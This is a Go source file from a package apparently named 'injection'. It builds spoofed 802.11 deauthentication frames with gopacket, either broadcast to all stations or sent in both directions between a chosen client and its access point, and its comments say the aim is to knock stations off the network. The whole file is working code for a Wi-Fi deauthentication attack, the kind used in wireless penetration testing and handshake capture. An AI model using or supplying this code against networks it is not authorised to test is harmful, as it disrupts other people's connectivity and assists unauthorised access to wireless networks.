// Package injection sends deauthentication frames, either natively through
// gopacket/pcap or by shelling out to aireplay-ng.
package injection

import (
	"fmt"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

var broadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// reasonClass3FromNonassoc is the standard reason used to knock a station
// off its AP (class 3 frame received from nonassociated station).
const reasonClass3FromNonassoc = 7

// buildDeauthFrames builds deauthentication frames for one logical burst
// step. A broadcast target yields one AP-to-all frame; a specific client
// yields one frame in each direction, which dislodges stubborn stations
// faster than AP-to-client alone.
func buildDeauthFrames(bssid, client net.HardwareAddr, seq uint16) ([][]byte, error) {
	if client == nil {
		frame, err := serializeDeauth(broadcast, bssid, bssid, seq)
		if err != nil {
			return nil, err
		}
		return [][]byte{frame}, nil
	}

	toClient, err := serializeDeauth(client, bssid, bssid, seq)
	if err != nil {
		return nil, err
	}
	toAP, err := serializeDeauth(bssid, client, bssid, seq+1)
	if err != nil {
		return nil, err
	}
	return [][]byte{toClient, toAP}, nil
}

func serializeDeauth(dst, src, bssid net.HardwareAddr, seq uint16) ([]byte, error) {
	radiotap := &layers.RadioTap{
		Present: layers.RadioTapPresentRate | layers.RadioTapPresentFlags,
		Rate:    5,
		Flags:   0x0008, // No ACK
	}

	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtDeauthentication,
		Address1:       dst,
		Address2:       src,
		Address3:       bssid,
		SequenceNumber: seq,
	}

	payload := &layers.Dot11MgmtDeauthentication{
		Reason: layers.Dot11Reason(reasonClass3FromNonassoc),
	}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{
		FixLengths:       true,
		ComputeChecksums: true,
	}
	if err := gopacket.SerializeLayers(buf, opts, radiotap, dot11, payload); err != nil {
		return nil, fmt.Errorf("serializing deauth frame: %w", err)
	}
	return buf.Bytes(), nil
}
